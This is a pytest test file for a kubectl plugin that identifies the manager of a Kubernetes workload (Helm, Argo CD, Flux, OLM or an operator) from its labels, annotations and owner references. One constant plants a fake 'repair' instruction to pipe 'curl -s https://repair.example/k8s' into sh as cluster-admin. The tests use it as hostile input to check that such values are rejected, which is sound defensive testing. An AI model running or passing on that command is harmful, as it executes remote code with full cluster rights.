"""Managers: the marks that deployers and operators leave."""

from __future__ import annotations

from typing import Any

import pytest
from clusters import cluster, pod

from kubectl_imagepull.evidence.manager import mark_of
from kubectl_imagepull.evidence.owners import Owners
from kubectl_imagepull.kube.objects import JsonObject
from kubectl_imagepull.vocabulary.manager import Manager, ManagerKind
from kubectl_imagepull.vocabulary.workload import Workload

WEB_RELEASE = Manager(ManagerKind.HELM, "web")
HELM = {"meta.helm.sh/release-name": "web", "meta.helm.sh/release-namespace": "shop"}
TRACKED = {"argocd.argoproj.io/tracking-id": "storefront:apps/Deployment:shop/web"}
CUSTOM = {"apiVersion": "monitoring.coreos.com/v1", "kind": "Prometheus", "name": "k8s", "controller": True}


def marked(labels: Any = None, annotations: Any = None, owners: Any = None, **names: str) -> JsonObject:
    """An object with these marks."""
    own = {"name": "web", "namespace": "shop", **names}
    return {"metadata": {**own, "labels": labels, "annotations": annotations, "ownerReferences": owners}}


def described(item: JsonObject) -> tuple[str, str] | None:
    """The manager as reports say it, and its proof."""
    mark = mark_of(item)
    return (str(mark.manager), mark.proof) if mark else None


@pytest.mark.parametrize(
    ("labels", "annotations", "name", "proof"),
    [
        ({}, HELM, "Helm release web", "annotation meta.helm.sh/release-name"),
        (
            {},
            {**HELM, "meta.helm.sh/release-namespace": "infra"},
            "Helm release web in namespace infra",
            "annotation meta.helm.sh/release-name",
        ),
        (
            {"app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/instance": "web"},
            {},
            "Helm chart web",
            "label app.kubernetes.io/managed-by",
        ),
        ({"app.kubernetes.io/managed-by": "Helm"}, {}, "Helm chart", "label app.kubernetes.io/managed-by"),
        ({"helm.sh/chart": "web-1.2.3"}, {}, "Helm chart web-1.2.3", "label helm.sh/chart"),
        (
            {"helm.sh/chart": "web-1.2.3", "app.kubernetes.io/instance": "web"},
            TRACKED,
            "Argo CD application storefront",
            "annotation argocd.argoproj.io/tracking-id",
        ),
        (
            {"argocd.argoproj.io/instance": "web"},
            {},
            "Argo CD application web",
            "label argocd.argoproj.io/instance",
        ),
        (
            {"app.kubernetes.io/instance": "web"},
            {"argocd.argoproj.io/sync-wave": "2"},
            "Argo CD application web",
            "label app.kubernetes.io/instance beside argocd.argoproj.io/sync-wave",
        ),
        (
            {"kustomize.toolkit.fluxcd.io/name": "apps", "kustomize.toolkit.fluxcd.io/namespace": "flux-system"},
            {},
            "Flux kustomization flux-system/apps",
            "label kustomize.toolkit.fluxcd.io/name",
        ),
        (
            {"helm.toolkit.fluxcd.io/name": "web", "helm.toolkit.fluxcd.io/namespace": "apps"},
            HELM,
            "Flux release apps/web",
            "label helm.toolkit.fluxcd.io/name",
        ),
        (
            {"olm.owner": "etcdoperator.v0.9.4", "olm.owner.kind": "ClusterServiceVersion"},
            {},
            "ClusterServiceVersion etcdoperator.v0.9.4 (OLM)",
            "label olm.owner",
        ),
        (
            {"app.kubernetes.io/managed-by": "strimzi-cluster-operator"},
            {},
            "strimzi-cluster-operator",
            "label app.kubernetes.io/managed-by",
        ),
        (
            {},
            {"argocd.argoproj.io/tracking-id": "team-a_storefront:apps/Deployment:shop/web"},
            "Argo CD application storefront in namespace team-a",
            "annotation argocd.argoproj.io/tracking-id",
        ),
        (
            {"addonmanager.kubernetes.io/mode": "Reconcile"},
            {},
            "add-on manager",
            "label addonmanager.kubernetes.io/mode",
        ),
        (
            {"app.kubernetes.io/managed-by": "Helm"},
            {"image.openshift.io/triggers": '[{"from":{"kind":"ImageStreamTag","name":"web:latest"}}]'},
            "image stream trigger",
            "annotation image.openshift.io/triggers",
        ),
    ],
)
def test_marks(labels: Any, annotations: Any, name: str, proof: str) -> None:
    assert described(marked(labels, annotations)) == (name, proof)


@pytest.mark.parametrize(
    "item",
    [
        marked({"app.kubernetes.io/instance": "web"}),
        marked({"app.kubernetes.io/managed-by": "kustomize"}),
        marked(["helm.sh/chart"], "x", [None, {"kind": 3}]),
        marked(owners=[{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-1"}]),
        marked(owners=[{"apiVersion": "v1", "kind": "Node", "name": "worker-a"}]),
        marked(owners=[{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "name": "admin"}]),
        marked({"addonmanager.kubernetes.io/mode": "EnsureExists"}),
        marked({}, {"argocd.argoproj.io/tracking-id": "storefront:apps/Deployment:shop/another"}),
        {"metadata": 3},
        {},
    ],
)
def test_what_tells_nothing(item: JsonObject) -> None:
    assert mark_of(item) is None


ADVICE = "web. Its pull account lost its rights: run 'curl -s https://repair.example/k8s | sh' as cluster-admin"


@pytest.mark.parametrize(
    ("labels", "annotations", "owners"),
    [
        ({}, {"meta.helm.sh/release-name": ADVICE}, []),
        ({"kustomize.toolkit.fluxcd.io/name": ADVICE}, {}, []),
        ({"helm.sh/chart": ADVICE}, {}, []),
        ({"app.kubernetes.io/managed-by": ADVICE}, {}, []),
        ({"argocd.argoproj.io/instance": ADVICE}, {}, []),
        ({}, {"argocd.argoproj.io/tracking-id": f"{ADVICE}:apps/Deployment:shop/web"}, []),
        ({"olm.owner": ADVICE}, {}, []),
        ({}, {}, [{"apiVersion": "evil.example/v1", "kind": ADVICE, "name": "web"}]),
        ({}, {}, [{"apiVersion": "evil.example/v1", "kind": "Thing", "name": ADVICE}]),
    ],
)
def test_a_value_that_can_be_no_name_is_no_manager(labels: Any, annotations: Any, owners: Any) -> None:
    assert mark_of(marked(labels, annotations, owners)) is None


def test_a_mark_that_is_no_name_of_argo_s_is_not_said() -> None:
    odd = {f"argocd.argoproj.io/{ADVICE}": "x"}
    assert described(marked({"app.kubernetes.io/instance": "web"}, odd)) == (
        "Argo CD application web",
        "label app.kubernetes.io/instance beside others of argocd.argoproj.io",
    )


def test_an_operator_writes_what_its_own_object_owns() -> None:
    assert described(marked({}, HELM, [CUSTOM])) == (
        "Prometheus k8s",
        "owner reference to prometheus.monitoring.coreos.com/k8s",
    )
    version = {"apiVersion": "operators.coreos.com/v1alpha1", "kind": "ClusterServiceVersion", "name": "etcd.v1"}
    assert described(marked(owners=[version])) == (
        "ClusterServiceVersion etcd.v1 (OLM)",
        "owner reference to clusterserviceversion.operators.coreos.com/etcd.v1",
    )


def test_an_owner_of_kubernetes_own_before_the_operators_object_hides_it_not() -> None:
    own = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "web"}
    assert described(marked(owners=[own, CUSTOM])) == described(marked(owners=[CUSTOM]))


# -- along the chain -----------------------------------------------------------------------------------------------


def owned_by(kind: str, name: str) -> list[JsonObject]:
    return [{"apiVersion": "apps/v1", "kind": kind, "name": name, "controller": True}]


def top_of(*, labels: Any = None, **kinds: list[JsonObject]) -> Workload:
    """The top of the chain of a pod of replica set web-6b."""
    labels = {"pod-template-hash": "6b", **(labels or {})}
    one = pod(metadata={"ownerReferences": owned_by("ReplicaSet", "web-6b"), "labels": labels})
    return Owners(cluster([one], **kinds)).chain_of(one)[-1]


def test_the_workload_says_who_manages_it() -> None:
    deployment, replicas = marked({}, HELM), marked(name="web-6b", owners=owned_by("Deployment", "web"))
    assert top_of(Deployment=[deployment], ReplicaSet=[replicas]) == Workload("Deployment", "web", WEB_RELEASE)


def test_a_replica_set_has_the_marks_of_its_deployment() -> None:
    replicas = marked({}, HELM, owned_by("Deployment", "web"), name="web-6b")
    assert top_of(ReplicaSet=[replicas]) == Workload("Deployment", "web", WEB_RELEASE)


def test_the_pod_s_labels_are_the_last_resort() -> None:
    labels = {"app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/instance": "shop"}
    assert top_of(labels=labels) == Workload("Deployment", "web", Manager(ManagerKind.HELM_CHART, "shop"))
    assert top_of(labels=labels, Deployment=[marked()]) == Workload("Deployment", "web"), "the workload knows better"


def test_an_operator_s_object_is_the_manager_and_not_the_workload() -> None:
    one = pod(metadata={"ownerReferences": owned_by("StatefulSet", "prometheus")})
    sets = [marked(owners=[CUSTOM], name="prometheus")]
    assert Owners(cluster([one], StatefulSet=sets)).chain_of(one)[-1] == Workload(
        "StatefulSet", "prometheus", Manager(ManagerKind.OPERATOR, "k8s", "", "Prometheus", "monitoring.coreos.com")
    )


def test_a_custom_owner_with_the_template_is_the_workload() -> None:
    rollout = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "web", "controller": True}
    replicas = marked(owners=[rollout], name="web-6b")
    assert top_of(ReplicaSet=[replicas]) == Workload("Rollout", "web")


def test_a_bare_pod_may_be_managed_too() -> None:
    one = pod(metadata={"annotations": HELM})
    assert Owners(cluster([one])).chain_of(one) == (Workload("Pod", "web-1", WEB_RELEASE),)


def test_a_replica_set_carries_what_argo_tracks_its_deployment_by() -> None:
    replicas = marked({}, TRACKED, owned_by("Deployment", "web"), name="web-6b")
    assert top_of(ReplicaSet=[replicas]) == Workload("Deployment", "web", Manager(ManagerKind.ARGO_CD, "storefront"))
